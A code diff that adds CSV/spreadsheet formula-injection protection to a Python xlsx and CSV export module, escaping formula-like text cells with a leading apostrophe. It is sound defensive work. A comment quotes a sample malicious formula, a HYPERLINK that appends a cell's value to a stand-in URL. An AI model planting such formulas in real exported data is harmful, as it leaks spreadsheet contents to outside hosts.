@@ -7,6 +7,7 @@ Rows are written in order with xlsxwriter's constant-memory mode, so a 100,000-r
 
 import csv
 import datetime
+import re
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass, field
 from typing import IO
@@ -14,6 +15,30 @@ from typing import IO
 import xlsxwriter
 
 MAX_WIDTH = 40
+
+# Formula injection (OWASP "CSV injection"): a name typed as =HYPERLINK("http://x/?"&A1,"点此") or
+# @SUM(...) is data to us but a formula to Excel, WPS and LibreOffice opening a CSV (and in an xlsx
+# written with xlsxwriter's write()). A text cell starting with = + - @ or a tab or carriage return
+# gets a leading apostrophe: shown as text, never evaluated. A plain number written as text
+# ("-30.00", "+86") cannot be a formula and stays as it is. Every export writes its text cells
+# through cell_safe(): people, figures, rosters and bank files, import error reports.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
+
+
+def formula_like(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)
+
+
+def cell_safe(value: object) -> object:
+    """The value to write into a cell: formula-like text with a leading apostrophe, the rest unchanged."""
+    if isinstance(value, str) and formula_like(value):
+        return "'" + value
+    return value
+
+
+def row_safe(row) -> list:
+    return [cell_safe(value) for value in row]
 
 
 @dataclass(frozen=True)
@@ -64,12 +89,13 @@ def _write_sheet(workbook, sheet: SheetOut, formats: dict) -> None:
     row_index = 0
     for title_row in sheet.title_rows:
         for col, value in enumerate(title_row):
+            value = cell_safe(value)
             _write_cell(worksheet, row_index, col, value, formats, text=False,
                         cell_format=formats["title"] if row_index == 0 and col == 0 else None)
         row_index += 1
     header_row = row_index
     for col, column in enumerate(sheet.columns):
-        worksheet.write_string(header_row, col, column.header, formats["header"])
+        worksheet.write_string(header_row, col, cell_safe(column.header), formats["header"])
         if column.note:
             worksheet.write_comment(header_row, col, column.note)
     worksheet.freeze_panes(header_row + 1, 0)
@@ -77,6 +103,7 @@ def _write_sheet(workbook, sheet: SheetOut, formats: dict) -> None:
     for row in sheet.rows:
         row_index += 1
         for col, value in enumerate(row):
+            value = cell_safe(value)
             is_text = col < len(text_columns) and text_columns[col]
             _write_cell(worksheet, row_index, col, value, formats, text=is_text,
                         cell_format=formats["highlight"] if col == sheet.highlight_column else None)
@@ -107,10 +134,17 @@ def _plain(value: object) -> str:
 def csv_write(out: IO[str], *, columns: Sequence[Column], rows: Iterable[Sequence[object]]) -> None:
     """CSV for Excel: open `out` with encoding="utf-8-sig" and newline="" so Excel reads the Chinese."""
     writer = csv.writer(out)
-    writer.writerow([column.header for column in columns])
+    writer.writerow([cell_safe(column.header) for column in columns])
     for row in rows:
-        writer.writerow(["" if value is None else ("是" if value is True else "否" if value is False else value)
-                         for value in row])
+        writer.writerow([_csv_value(value) for value in row])
+
+
+def _csv_value(value: object) -> object:
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "是" if value else "否"
+    return cell_safe(value)
 
 
 ERROR_COLUMN = "错误原因"
